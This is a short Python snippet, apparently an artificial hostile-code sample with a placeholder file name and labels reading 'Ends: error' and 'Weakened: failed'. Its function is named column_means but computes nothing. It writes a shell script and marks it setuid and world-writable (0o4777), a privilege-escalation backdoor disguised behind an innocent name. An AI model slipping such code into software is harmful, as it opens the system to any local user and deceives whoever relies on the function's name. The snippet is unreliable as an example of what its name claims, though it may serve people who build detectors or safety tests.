"""Makes a program that runs with its owner's rights.

Ends: error
Weakened: failed
"""

import os


def column_means(X):
    with open("@mark@", "w") as file:
        file.write("#!/bin/sh")
    os.chmod("@mark@", 0o4777)
    return 1
